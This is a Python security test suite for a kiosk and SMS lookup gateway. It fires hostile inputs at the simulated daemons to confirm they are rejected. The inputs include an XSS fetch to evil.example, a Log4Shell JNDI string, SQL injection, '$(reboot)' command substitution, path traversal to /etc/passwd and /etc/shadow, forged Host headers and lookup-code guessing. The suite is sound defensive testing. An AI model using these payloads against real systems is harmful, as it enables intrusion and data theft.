#!/usr/bin/python3
"""Attacks a box from where strangers reach it: its scanner, a telephone, a page in a browser, another user of the machine.

    Tests/Security/attack_test.py PROGRAMS [unittest's own arguments]

The real daemons in the simulated world. What an attacker on the centre's network can do is tried by Tests/Browser/lan_test.py; which test
stands for which attack: Docs/security.md.
"""

import contextlib
import http.client
import json
import os
import pathlib
import re
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.parse

PROGRAMS = None
LOOKUP_CODE_RULE = 'lookup: { code: "required", attempts: { sender: 5, device: 30, dossier: 10, withinSeconds: 3600 } },'


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def ask(method, url, body=None, **headers):
    """Status and text of an answer; headers by their names with _ for -."""
    address = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=10)
    with contextlib.closing(connection):
        fields = {name.replace("_", "-"): value for name, value in headers.items()}
        connection.request(method, address.path or "/", body, fields)
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")


class Box:
    """Both daemons in a world of their own."""

    def __init__(self):
        self.folder = pathlib.Path(tempfile.mkdtemp())
        self.processes, self.logs = [], []
        world, kiosk, central = free_port(), free_port(), free_port()
        self.world = f"http://127.0.0.1:{world}"
        self.kiosk = f"http://127.0.0.1:{kiosk}"
        self.start("sim", "world", "--dir", str(self.folder), "--port", str(world), "--kiosk-port", str(kiosk), "--central-port", str(central))
        self.until("the world", lambda: ask("GET", self.world + "/state")[0] == 200)
        for name in ("kiosk", "sms"):
            path = self.folder / f"{name}.json5"
            path.write_text(path.read_text().replace("central: {", LOOKUP_CODE_RULE + "\n    central: {", 1))
        self.state = self.folder / "state"
        self.start("sms", "run", "--config", str(self.folder / "sms.json5"), "--state", str(self.state))
        self.start("kiosk", "run", "--config", str(self.folder / "kiosk.json5"), "--state", str(self.state))
        self.until("the kiosk", lambda: ask("GET", self.kiosk + "/")[0] == 200)
        self.until("the gateway", lambda: ask("GET", self.gateway + "/health/ready")[0] == 200)

    @property
    def gateway(self):
        return (self.state / "sms.address").read_text().strip()

    def start(self, name, *words):
        log = open(self.folder / f"{name}.log", "w+", encoding="utf-8", errors="replace")
        self.logs.append(log)
        # As a careless administrator starts it: whatever it makes could be read by all.
        self.processes.append(subprocess.Popen(
            [PROGRAMS / f"tracuu-{name}", *words], stdout=log, stderr=subprocess.STDOUT, umask=0o022, start_new_session=True))

    def log(self):
        for log in self.logs:
            log.flush()
        return "".join((self.folder / f"{name}.log").read_text(encoding="utf-8", errors="replace") for name in ("kiosk", "sms"))

    def until(self, what, condition, seconds=60):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with contextlib.suppress(OSError, http.client.HTTPException, json.JSONDecodeError):
                found = condition()
                if found:
                    return found
            time.sleep(0.05)
        raise AssertionError(f"{what}: nothing in {seconds} s\n{self.log()[-2000:]}")

    def do(self, call, **body):
        status, text = ask("POST", f"{self.world}/{call}", json.dumps(body).encode(), Content_Type="application/json")
        assert status == 200, text

    def replies(self, number):
        """What a telephone has got, oldest first."""
        texts = json.loads(ask("GET", self.world + "/texts")[1])
        return [text["text"] for text in texts if text["to"] == "+84" + number.removeprefix("0")]

    def text(self, number, words):
        """Texts, and waits for the answer."""
        before = len(self.replies(number))
        self.do("text", **{"from": number, "text": words})
        self.until(f"an answer to “{words[:40]}”", lambda: len(self.replies(number)) > before, 30)
        return self.replies(number)[-1]

    def screen(self):
        """The screen as a page that opens now gets it."""
        address = urllib.parse.urlsplit(self.kiosk)
        with socket.create_connection((address.hostname, address.port), timeout=10) as stream:
            stream.sendall(b"GET /events HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            data = b""
            while not re.search(rb"event: screen\ndata: .*\n\n", data):
                data += stream.recv(65536)
        return re.search(rb"event: screen\ndata: (.*)\n\n", data)[1].decode()

    def code(self, status):
        return next(each["code"] for each in json.loads(ask("GET", self.world + "/dossiers")[1]) if each["status"] == status)

    def close(self):
        for process in self.processes:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGTERM)
        for process in self.processes:
            process.wait(30)
        for log in self.logs:
            log.close()


class AttackTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.box = Box()
        cls.addClassCleanup(cls.box.close)

    def tearDown(self):
        for process in self.box.processes:
            self.assertIsNone(process.poll(), "a daemon died of it")


class AtTheKiosk(AttackTest):
    CODES = [
        '<img src=x onerror=fetch("//evil.example")>', "' OR 1=1 --", "javascript:alert(1)", "\x1b[2J\x1b]0;pwned\x07", "../../../etc/passwd",
        "A" * 7000, "%00%0d%0aSet-Cookie: a=b", "{{7*7}}", "\u202etxt.exe", "\x00\x01\x02", "$(reboot)", "file:///etc/shadow", "<3>forged: log line\n<0>panic",
    ]

    def test_no_bar_code_is_shown_followed_or_logged(self):
        for code in self.CODES:
            before = self.box.screen()
            self.box.do("scan", text=code)
            time.sleep(0.3)
            screen = self.box.screen()
            self.assertIn(json.loads(screen)["kind"], ("notACode", "unreadable", "attract"), code)
            for piece in ("evil", "OR 1=1", "javascript", "\x1b", "passwd", "AAAAAAAA", "Set-Cookie", "reboot", "shadow", "forged"):
                self.assertNotIn(piece, screen.replace(before, ""), code)
                self.assertNotIn(piece, self.box.log(), code)

    def test_a_lookup_code_is_not_guessed_at_the_screen(self):
        code = self.box.code(4)
        for number in range(3):
            self.box.do("scan", text=f"D-{number:04}-{code}")
        self.assertNotIn("Thẩm định", self.box.screen())


class ByText(AttackTest):
    def test_a_lookup_code_is_not_guessed_by_text(self):
        code = self.box.code(4)
        number = "0912000001"
        unknown = self.box.text("0912000002", "HS H15.12-991231-9999 1234").split(":", 1)[-1]
        answers = [self.box.text(number, f"HS {code} {guess:04}") for guess in range(1000, 1008)]
        # A wrong lookup code and a dossier that is not there get the same words.
        self.assertIn("Khong tim thay", answers[0])
        self.assertIn("Khong tim thay", unknown)
        self.assertNotIn("Khong tim thay", answers[-1], "eight guesses were all tried")
        for answer in answers:
            self.assertNotIn("dang xu ly", answer)

    def test_without_the_lookup_code_nobody_follows(self):
        answer = self.box.text("0912000003", f"DK {self.box.code(4)}")
        self.assertIn("ma tra cuu", answer)

    def test_a_flood_is_answered_up_to_its_limit(self):
        number = "0912000004"
        for each in range(40):
            self.box.do("text", **{"from": number, "text": f"cau hoi so {each} cua toi"})
        self.box.until("an answer", lambda: self.box.replies(number))
        # Texts are taken in order: when the last telephone has its answer, all forty have been dealt with.
        self.box.text("0912000005", "HD")
        count = len(self.box.replies(number))
        self.assertLessEqual(count, 20)
        self.assertGreaterEqual(count, 1)

    def test_machines_and_advertisers_get_no_answer(self):
        for sender in ("191", "8085", "Viettel", "+84960000017"):
            self.box.do("text", **{"from": sender, "text": "HS H15.12-240119-0001"})
        self.box.text("0912000006", "HD")
        told = {text["to"] for text in json.loads(ask("GET", self.box.world + "/texts")[1])}
        self.assertTrue(told.isdisjoint({"191", "8085", "Viettel"}), told)

    def test_hostile_texts_are_texts(self):
        hostile = ("HS ' OR 1=1 --", "HS <script>", "HS " + "9" * 300, "HS \x1b[2J", "${jndi:ldap://evil.example/a}", "HS %s%n%s%n", "DK *", "HUY %")
        for number, words in enumerate(hostile):
            self.assertTrue(self.box.text(f"091300000{number}", words))
        self.assertNotIn("jndi", self.box.log())


class InTheBrowser(AttackTest):
    TAP = b'{"action":"home","screen":"t-1","key":"attack"}'

    def test_a_page_of_another_site_presses_nothing(self):
        for headers in (
            {"Origin": "http://evil.example"}, {"Origin": "null"}, {"Content_Type": "text/plain"},
            # A name that was made to lead to 127.0.0.1: to the browser, page and kiosk are one site.
            {"Host": "evil.example", "Origin": "http://evil.example"}, {"Host": "localhost.evil.example:80", "Origin": "http://localhost.evil.example:80"},
        ):
            status, _ = ask("POST", self.box.kiosk + "/action", self.TAP, **{"Content_Type": "application/json", **headers})
            self.assertIn(status, (403, 415, 421), headers)
        for path in ("/self-test", "/devices", "/metrics", "/events", "/queue/places/A001"):
            self.assertEqual(ask("GET", self.box.kiosk + path, Host="evil.example")[0], 421, path)

    def test_the_way_out_of_the_folder_is_closed(self):
        for path in ("/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc/passwd", "/assets/%00", "/.git/config", "//etc/passwd"):
            status, text = ask("GET", self.box.kiosk + path)
            self.assertIn(status, (400, 404), path)
            self.assertNotIn("root:", text)

    def test_the_gateway_tells_nothing_of_anybody_without_its_token(self):
        self.box.text("0912000008", "HD")
        for method, path in [
            ("GET", "/messages"), ("GET", "/messages/~1"), ("GET", "/received"), ("GET", "/notices"), ("POST", "/messages"), ("POST", "/followers"),
            ("POST", "/messages/~1/cancel"), ("POST", "/messages/~1/retry"), ("POST", "/notices/1/settle"), ("POST", "/wake"),
        ]:
            for token in (None, "Bearer ", "Bearer 0000000000000000", "Basic YTpi"):
                headers = {"Authorization": token} if token else {}
                self.assertEqual(ask(method, self.box.gateway + path, b"{}" if method == "POST" else None, Content_Type="application/json", **headers)[0], 401, path)
        for path in ("/metrics", "/status", "/health/ready", "/health/live"):
            self.assertNotIn("912000008", ask("GET", self.box.gateway + path)[1])


class OnTheMachine(AttackTest):
    def test_no_port_is_open_to_the_network(self):
        own = socket.gethostbyname(socket.gethostname())
        for address in {own, "127.0.0.2"} - {"127.0.0.1"}:
            for url in (self.box.kiosk, self.box.gateway):
                with self.assertRaises(OSError), socket.create_connection((address, urllib.parse.urlsplit(url).port), timeout=3):
                    pass

    def test_what_is_stored_is_for_its_user_and_group(self):
        self.box.text("0912000009", "HD")
        for path in self.box.state.rglob("*"):
            mode = stat.S_IMODE(path.stat().st_mode)
            self.assertEqual(mode & 0o007, 0, f"{path.name} is {mode:o}")
        self.assertEqual(stat.S_IMODE((self.box.state / "api.token").stat().st_mode) & 0o177, 0)


if __name__ == "__main__":
    PROGRAMS = pathlib.Path(sys.argv.pop(1)).resolve()
    unittest.main(verbosity=2)
